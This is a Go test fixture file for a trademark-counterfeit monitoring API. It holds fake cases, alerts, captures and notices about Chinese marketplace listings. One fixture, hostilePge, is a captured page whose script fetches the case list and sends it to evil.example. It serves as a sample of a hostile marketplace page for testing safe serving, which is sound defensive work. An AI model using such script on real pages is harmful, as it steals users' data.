package httpapi

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/markwatch/markwatch/internal/domain"
)

// Artefacts of the case fixtures: A's page holds a script, as a hostile
// marketplace page would.
var (
	shaPageA   = strings.Repeat("a1", 32)
	shaShotA   = strings.Repeat("a2", 32)
	shaPageB   = strings.Repeat("b1", 32)
	hostilePge = []byte(`<!doctype html><title>六个核桃</title><script>fetch("/api/v1/cases").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script>`)
)

// caseAlerts are confirmed alerts the case fixtures hold or suggest.
var caseAlerts = []domain.Alert{
	{ID: 5, MarkID: "liugehetao", SourceID: "jd", URL: "https://item.jd.com/5.html", Title: "六仌核桃 核桃乳 整箱", Seller: "某某食品专营店", Location: "山东 临沂", Score: 0.9, Status: domain.AlertConfirmed, FirstSeen: seen, LastSeen: seen},
	{ID: 6, MarkID: "liugehetao", SourceID: "jd", URL: "https://item.jd.com/6.html", Title: "六个核桃 仿 礼盒", Seller: "某某食品专营店", Location: "山东 临沂", Score: 0.86, Status: domain.AlertConfirmed, FirstSeen: seen, LastSeen: seen},
	{ID: 7, MarkID: "hengshui-laobaigan", SourceID: "taobao", URL: "https://item.taobao.com/7.html", Title: "衡水老白乾 古法 高仿", Seller: "某某食品专营店", Location: "河北 石家庄", Score: 0.92, Status: domain.AlertConfirmed, FirstSeen: seen, LastSeen: seen},
	{ID: 8, MarkID: "hengshui-laobaigan", SourceID: "taobao", URL: "https://item.taobao.com/8.html", Title: "衡水老白干 67度 散装", Seller: "某某食品专营店", Location: "河北 石家庄", Score: 0.8, Status: domain.AlertConfirmed, FirstSeen: seen, LastSeen: seen},
}

var caseMarks = []domain.Mark{
	{ID: "liugehetao", Name: "六个核桃", Kind: domain.KindTrademark, Owner: "河北养元智汇饮品股份有限公司", Classes: []int{32}},
	{ID: "hengshui-laobaigan", Name: "衡水老白干", Kind: domain.KindTimeHonoured, Owner: "河北衡水老白干酒业股份有限公司", Classes: []int{33}},
}

// memCases is cases, notices, evidence and blobs in memory. It applies
// scopes the way the SQL store does unless leak is set, and counts writes
// so a refused request can be shown to have changed nothing.
type memCases struct {
	mu      sync.Mutex
	cases   []domain.Case
	notices []domain.Notice
	caps    []domain.Capture
	vers    []domain.ListingVersion
	blobs   map[string][]byte
	leak    bool
	writes  int
	packets []string // "<case id>.<format>"
	filter  domain.CaseFilter
	nextID  int64
}

func newMemCases() *memCases {
	return &memCases{
		nextID: 100,
		cases: []domain.Case{
			{ID: 1, Number: "MW-2026-0001", Title: "六个核桃 仿冒 某某食品专营店", MarkID: "liugehetao", Jurisdiction: "山东 临沂",
				Status: domain.CaseOpen, AlertIDs: []int64{5}, Notes: "临沂市场监管局已受理", CreatedAt: seen, UpdatedAt: seen},
			{ID: 2, Number: "MW-2026-0002", Title: "衡水老白干 仿冒 某某食品专营店", MarkID: "hengshui-laobaigan", Jurisdiction: "河北 石家庄",
				Status: domain.CaseInvestigating, AlertIDs: []int64{7}, Assignee: "石家庄市市场监管局 张三", CreatedAt: seen, UpdatedAt: seen},
		},
		notices: []domain.Notice{
			{ID: 1, CaseID: 1, Platform: "jd", GeneratedAt: seen},
			{ID: 2, CaseID: 2, Platform: "alibaba", GeneratedAt: seen},
		},
		caps: []domain.Capture{
			{ID: 1, AlertID: 5, Version: 1, SourceID: "jd", MarkID: "liugehetao", ListingURL: "https://item.jd.com/5.html",
				Fetch:      domain.Fetch{RequestURL: "https://search.jd.com/?q=六个核桃", FinalURL: "https://search.jd.com/?q=六个核桃", Status: 200, UserAgent: "markwatch/1.0", RemoteAddr: "111.13.149.108:443", FetchedAt: seen},
				Artefacts:  []domain.ArtefactRef{{Role: domain.RoleSearchPage, SHA256: shaPageA, Size: int64(len(hostilePge)), MediaType: "text/html; charset=utf-8"}, {Role: domain.RoleScreenshot, SHA256: shaShotA, Size: 8, MediaType: "image/png"}},
				CapturedAt: seen, RecordHash: strings.Repeat("c", 64), LogIndex: 0},
			{ID: 2, AlertID: 7, Version: 1, SourceID: "taobao", MarkID: "hengshui-laobaigan", ListingURL: "https://item.taobao.com/7.html",
				Artefacts:  []domain.ArtefactRef{{Role: domain.RoleSearchPage, SHA256: shaPageB, Size: 10, MediaType: "text/html"}},
				CapturedAt: seen, RecordHash: strings.Repeat("d", 64), LogIndex: 1},
		},
		vers: []domain.ListingVersion{
			{ID: 1, AlertID: 5, Version: 1, SeenAt: seen, Title: "六仌核桃 核桃乳 整箱", Price: 49.9, Seller: "某某食品专营店", Available: true, CaptureID: 1},
			{ID: 2, AlertID: 5, Version: 2, SeenAt: seen, Title: "六仌核桃 核桃乳 整箱", Price: 39.9, Seller: "某某食品专营店", Available: true, Changes: []string{"price"}},
			{ID: 3, AlertID: 7, Version: 1, SeenAt: seen, Title: "衡水老白乾 古法 高仿", Seller: "某某食品专营店", Available: true, CaptureID: 2},
		},
		blobs: map[string][]byte{shaPageA: hostilePge, shaShotA: []byte("\x89PNG\r\n\x1a\n"), shaPageB: []byte("<p>衡水</p>")},
	}
}

func (m *memCases) wrote() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.writes
}

func (m *memCases) CreateCase(_ context.Context, c domain.Case, actor domain.Actor) (domain.Case, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.writes++
	m.nextID++
	c.ID, c.Number, c.CreatedBy, c.CreatedAt, c.UpdatedAt = m.nextID, fmt.Sprintf("MW-2026-%04d", m.nextID), actor, seen, seen
	m.cases = append(m.cases, c)
	return c, nil
}

func (m *memCases) GetCase(_ context.Context, id int64) (domain.Case, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	for _, c := range m.cases {
		if c.ID == id {
			return c, nil
		}
	}
	return domain.Case{}, domain.Errorf(domain.ENOTFOUND, "no case row id=%d", id)
}

func (m *memCases) ListCases(_ context.Context, f domain.CaseFilter) ([]domain.Case, int, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.filter = f
	var out []domain.Case
	for _, c := range m.cases {
		if (f.Status == "" || c.Status == f.Status) && (m.leak || f.Scope.Allows(c.MarkID, c.Jurisdiction)) {
			out = append(out, c)
		}
	}
	return out, len(out), nil
}

func (m *memCases) UpdateCase(_ context.Context, c domain.Case, actor domain.Actor) (domain.Case, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.writes++
	for i, o := range m.cases {
		if o.ID == c.ID {
			o.Status, o.Title, o.Assignee, o.Notes = c.Status, c.Title, c.Assignee, c.Notes
			m.cases[i] = o
			return o, nil
		}
	}
	return domain.Case{}, domain.Errorf(domain.ENOTFOUND, "no case row id=%d", c.ID)
}

func (m *memCases) SetCaseAlerts(_ context.Context, id int64, ids []int64, actor domain.Actor) (domain.Case, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.writes++
	for i, o := range m.cases {
		if o.ID == id {
			m.cases[i].AlertIDs = slices.Clone(ids)
			return m.cases[i], nil
		}
	}
	return domain.Case{}, domain.Errorf(domain.ENOTFOUND, "no case row id=%d", id)
}

// SuggestCaseAlerts suggests the confirmed alerts of the same seller on
// the same mark: 6 for case 1, 8 for case 2.
func (m *memCases) SuggestCaseAlerts(_ context.Context, id int64) ([]domain.Alert, error) {
	switch id {
	case 1:
		return []domain.Alert{caseAlerts[1]}, nil
	case 2:
		return []domain.Alert{caseAlerts[3]}, nil
	}
	return nil, nil
}

func (m *memCases) CreateNotice(_ context.Context, n domain.Notice, actor domain.Actor) (domain.Notice, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.writes++
	m.nextID++
	n.ID = m.nextID
	m.notices = append(m.notices, n)
	return n, nil
}

func (m *memCases) UpdateNotice(_ context.Context, n domain.Notice, actor domain.Actor) (domain.Notice, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.writes++
	for i, o := range m.notices {
		if o.ID == n.ID {
			m.notices[i] = n
			return n, nil
		}
	}
	return domain.Notice{}, domain.Errorf(domain.ENOTFOUND, "no notice row %d", n.ID)
}

func (m *memCases) ListNotices(_ context.Context, caseID int64) ([]domain.Notice, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	var out []domain.Notice
	for _, n := range m.notices {
		if n.CaseID == caseID || m.leak {
			out = append(out, n)
		}
	}
	return out, nil
}

func (m *memCases) CapturesOf(_ context.Context, alertID int64) ([]domain.Capture, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	var out []domain.Capture
	for _, c := range m.caps {
		if c.AlertID == alertID {
			out = append(out, c)
		}
	}
	return out, nil
}

func (m *memCases) ListVersions(_ context.Context, alertID int64) ([]domain.ListingVersion, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	var out []domain.ListingVersion
	for _, v := range m.vers {
		if v.AlertID == alertID {
			out = append(out, v)
		}
	}
	return out, nil
}

func (m *memCases) ArtefactAlerts(_ context.Context, sha string) ([]domain.Alert, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	var out []domain.Alert
	for _, c := range m.caps {
		for _, ref := range c.Artefacts {
			if ref.SHA256 == sha {
				for _, a := range caseAlerts {
					if a.ID == c.AlertID {
						out = append(out, a)
					}
				}
			}
		}
	}
	return out, nil
}

func (m *memCases) Open(_ context.Context, sha string) (io.ReadCloser, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	b, ok := m.blobs[sha]
	if !ok {
		return nil, domain.Errorf(domain.ENOTFOUND, "no file sha256/%s", sha)
	}
	return io.NopCloser(bytes.NewReader(b)), nil
}

// Packet writes a stand-in packet naming the case, and remembers it was
// asked.
func (m *memCases) Packet(_ context.Context, id int64, w io.Writer, format string) error {
	m.mu.Lock()
	m.packets = append(m.packets, fmt.Sprintf("%d.%s", id, format))
	m.mu.Unlock()
	_, err := fmt.Fprintf(w, "%%%s packet of case %d", strings.ToUpper(format), id)
	return err
}

// fakeTransition is the workflow of package cases: open → investigating
// → notice_sent → removed → closed, any → closed, closed → investigating.
func fakeTransition(from, to domain.CaseStatus) error {
	next := map[domain.CaseStatus][]domain.CaseStatus{
		domain.CaseOpen:          {domain.CaseInvestigating, domain.CaseClosed},
		domain.CaseInvestigating: {domain.CaseNoticeSent, domain.CaseClosed},
		domain.CaseNoticeSent:    {domain.CaseRemoved, domain.CaseClosed},
		domain.CaseRemoved:       {domain.CaseClosed},
		domain.CaseClosed:        {domain.CaseInvestigating},
	}
	if slices.Contains(next[from], to) {
		return nil
	}
	return domain.Errorf(domain.EINVALID, "不能 %s → %s", from, to)
}

type fakeDoc struct {
	platform string
	c        domain.Case
	alerts   []domain.Alert
	links    map[int64][]string
}

func (d fakeDoc) Text() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s 知识产权投诉 %s %s\n", d.platform, d.c.Number, d.c.Title)
	for _, a := range d.alerts {
		fmt.Fprintf(&b, "%s %s %s\n", a.URL, a.Seller, strings.Join(d.links[a.ID], " "))
	}
	return b.String()
}

func (d fakeDoc) WriteCSV(w io.Writer) error {
	for _, a := range d.alerts {
		if _, err := fmt.Fprintf(w, "%s,%s\n", a.URL, a.Seller); err != nil {
			return err
		}
	}
	return nil
}

func (d fakeDoc) JSON() ([]byte, error) {
	return json.Marshal(map[string]any{"platform": d.platform, "case": d.c.Number, "links": d.links})
}

func fakeNotice(platform string, c domain.Case, m domain.Mark, alerts []domain.Alert, links map[int64][]string) (NoticeDoc, error) {
	if !slices.Contains([]string{"alibaba", "jd", "pinduoduo"}, platform) {
		return nil, domain.Errorf(domain.EINVALID, "unknown platform %q", platform)
	}
	return fakeDoc{platform: platform, c: c, alerts: alerts, links: links}, nil
}

// caseHarness is the API with the case fixtures wired in; modify may
// change the fakes (to delete an object, say) before serving.
func caseHarness(t *testing.T, modify func(*memCases, *memStore)) (*harness, *memCases) {
	t.Helper()
	mc := newMemCases()
	h := newHarness(t, func(d *Deps) {
		d.Evidence, d.Blobs, d.Cases, d.Notices = mc, mc, mc, mc
		d.Transition, d.Notice, d.Packet, d.Marks = fakeTransition, fakeNotice, mc.Packet, caseMarks
		d.BaseURL = "https://markwatch.example.gov.cn/"
	})
	h.store.alerts = append(h.store.alerts, caseAlerts...)
	if modify != nil {
		modify(mc, h.store)
	}
	return h, mc
}
